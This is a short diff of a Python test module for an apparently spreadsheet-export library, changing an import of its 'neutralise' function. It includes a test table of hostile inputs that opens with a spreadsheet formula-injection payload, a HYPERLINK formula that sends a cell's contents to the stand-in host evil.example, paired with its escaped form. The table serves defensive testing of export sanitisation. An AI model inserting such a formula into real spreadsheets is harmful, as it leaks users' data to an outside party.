@@ -19,7 +19,7 @@ from cmflow import with_series_key
 from cmflow.builtin.reports.spreadsheets import (Cell, Column, Sheet, SheetChart, excel_sheet_name, measurement_table,
                                                  measurements_sheet, neutralise, write_measurements_csv,
                                                  write_measurements_json, write_xlsx)
-from cmflow.builtin.spreadsheet_formulas import neutralise as the_one_neutraliser
+from cmflow import neutralise as the_one_neutraliser
 
 HOSTILE = {
     '=HYPERLINK("https://evil.example/?d="&A1,"Click")': '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
